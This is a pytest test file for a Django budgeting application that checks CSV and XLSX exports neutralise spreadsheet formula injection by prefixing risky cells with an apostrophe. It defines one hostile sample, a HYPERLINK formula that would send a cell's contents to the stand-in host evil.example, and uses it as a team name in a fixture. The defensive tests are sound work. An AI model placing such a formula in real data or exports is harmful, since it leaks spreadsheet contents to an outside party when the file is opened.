"""Exports cannot carry spreadsheet formulas (issue 9, point 8)."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse

from maatwerk.accounts.roles import Role
from maatwerk.core.csv_export import inert, writer
from maatwerk.decisions.models import Budget

from ..core.test_core_xlsx import Book
from ..factories import TeamFactory, user_with_role

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Wijkteam Noord", "Wijkteam Noord"),
        ("", ""),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        (None, None),
    ],
)
def test_inert(value, expected):
    assert inert(value) == expected


def test_writer_makes_every_cell_inert():
    out = io.StringIO()
    writer(out, delimiter=";").writerows([["=cmd", "ok", Decimal("-1")]])
    assert out.getvalue() == "'=cmd;ok;-1\r\n"


def test_writer_writes_amounts_with_a_decimal_comma_for_dutch_excel():
    out = io.StringIO()
    rows = [["=cmd", Decimal("25000.00"), Decimal("-12.50"), 2026, "1.5"]]
    writer(out, delimiter=";", decimal_comma=True).writerows(rows)
    assert out.getvalue() == "'=cmd;25000,00;-12,50;2026;1.5\r\n"


@pytest.fixture
def evil_team_lead(db):
    team = TeamFactory(name=EVIL)
    Budget.objects.create(
        organisation=team.organisation, team=team, year=date.today().year, amount=Decimal(500)
    )
    return user_with_role(Role.TEAM_LEAD, team)


def test_budget_csv_writes_a_formula_team_name_as_text(client, evil_team_lead):
    client.force_login(evil_team_lead)
    response = client.get(reverse("decisions:budgets_csv"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))
    assert rows[1][1] == "'" + EVIL
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_budget_xlsx_has_no_formulas(client, evil_team_lead):
    """Text is written as a text cell (a shared string), which Excel never evaluates."""
    client.force_login(evil_team_lead)
    response = client.get(reverse("decisions:budgets_xlsx"))
    book = Book(response.content)
    assert "<f>" not in book.sheet_xml and "<f " not in book.sheet_xml
    team = book.cell("B2")
    assert team["type"] == "s" and team["value"] == EVIL and not team["formula"]
